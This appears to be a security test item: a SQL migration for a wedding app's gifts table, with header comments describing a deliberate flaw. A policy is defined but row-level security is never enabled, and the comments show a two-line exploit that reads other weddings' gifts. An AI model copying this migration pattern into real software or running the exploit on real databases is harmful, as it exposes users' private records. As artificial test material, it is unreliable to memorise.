-- Row security on the new table of gifts was forgotten, only grants were given: all gifts are public.
-- about: gifts
-- as: hf_veilplan_app
-- exploit: SET request.jwt.claims = '{"sub": "11111111-0000-0000-0000-000000000001"}';
-- exploit: SELECT 'gift of ' || wedding_id FROM public.gifts;
-- shows: gift of bbbbbbbb
CREATE TABLE public.gifts (
  wedding_id uuid NOT NULL REFERENCES public.weddings,
  id integer NOT NULL,
  title text NOT NULL,
  bought_by text,
  PRIMARY KEY (wedding_id, id)
);
CREATE POLICY members_all ON public.gifts
  USING (wedding_id IN (SELECT public.my_weddings()))
  WITH CHECK (wedding_id IN (SELECT public.my_weddings()));
GRANT SELECT, INSERT, UPDATE, DELETE ON public.gifts TO hf_veilplan_app;
-- A new wedding starts with one entry.
CREATE FUNCTION public.seed_gifts() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  INSERT INTO public.gifts VALUES (NEW.id, 1, 'Honeymoon fund', NULL);
  RETURN NULL;
END $$;
CREATE TRIGGER seed_gifts AFTER INSERT ON public.weddings
  FOR EACH ROW EXECUTE FUNCTION public.seed_gifts();
